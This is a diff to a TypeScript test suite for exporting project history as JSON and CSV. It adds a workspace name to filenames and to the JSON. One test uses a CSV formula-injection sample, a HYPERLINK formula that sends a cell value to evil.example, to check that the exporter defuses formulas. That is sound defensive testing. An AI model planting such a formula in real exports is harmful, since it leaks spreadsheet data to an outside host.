@@ -7,18 +7,19 @@ import { loadStorageFixture } from '../fixtures/storage/load';
 
 const history = loadStorageFixture<ProjectHistory>('project-history.v1.json');
 const AT = new Date(2026, 10, 21, 15, 30);
+const WORKSPACE = { name: 'Acme — Staging!' };
 
 describe('history export', () => {
-  it('JSON: every entry, oldest first, in a named and versioned document', () => {
-    const file = exportHistoryJson(history, AT);
-    expect(file.fileName).toBe('project-history-2026-11-21.json');
+  it('JSON: every entry, oldest first, in a named and versioned document that names its workspace', () => {
+    const file = exportHistoryJson(history, AT, WORKSPACE);
+    expect(file.fileName).toBe('project-history-acme-staging-2026-11-21.json');
     expect(file.mimeType).toBe('application/json');
-    expect(JSON.parse(file.text)).toEqual({ format: HISTORY_EXPORT_FORMAT, version: 1, exportedAt: AT.toISOString(), projects: history });
+    expect(JSON.parse(file.text)).toEqual({ format: HISTORY_EXPORT_FORMAT, version: 1, exportedAt: AT.toISOString(), workspace: WORKSPACE, projects: history });
   });
 
   it('CSV: a header, one quoted-as-needed row per project, and formulas defused', () => {
-    const file = exportHistoryCsv(history, AT);
-    expect(file.fileName).toBe('project-history-2026-11-21.csv');
+    const file = exportHistoryCsv(history, AT, WORKSPACE);
+    expect(file.fileName).toBe('project-history-acme-staging-2026-11-21.csv');
     expect(file.mimeType).toBe('text/csv');
     const rows = Papa.parse<string[]>(file.text.trimEnd(), { newline: '\r\n' }).data;
     expect(rows[0]).toEqual(['project_id', 'project_url', 'project_name', 'created_at']);
@@ -34,13 +35,13 @@ describe('history export', () => {
   it('CSV guards a page title that starts a formula and contains a line break', () => {
     const title = '=HYPERLINK("https://evil.example/?u="&B2,"Guide")\nmore';
     const entries = [{ projectId: 'p', projectUrl: '-1+2', projectName: title, createdAt: 'x' }];
-    const rows = Papa.parse<string[]>(exportHistoryCsv(entries, AT).text.trimEnd(), { newline: '\r\n' }).data;
+    const rows = Papa.parse<string[]>(exportHistoryCsv(entries, AT, WORKSPACE).text.trimEnd(), { newline: '\r\n' }).data;
     expect(rows[1]).toEqual(['p', "'-1+2", `'${title}`, 'x']);
   });
 
   it('CSV keeps commas, quotes and line breaks inside one field', () => {
     const tricky = [{ projectId: 'p', projectUrl: 'https://e.com/?a=1,2', projectName: 'Say "hi",\nthen go', createdAt: 'x' }];
-    const rows = Papa.parse<string[]>(exportHistoryCsv(tricky, AT).text.trimEnd(), { newline: '\r\n' }).data;
+    const rows = Papa.parse<string[]>(exportHistoryCsv(tricky, AT, WORKSPACE).text.trimEnd(), { newline: '\r\n' }).data;
     expect(rows[1]).toEqual(['p', 'https://e.com/?a=1,2', 'Say "hi",\nthen go', 'x']);
   });
 });
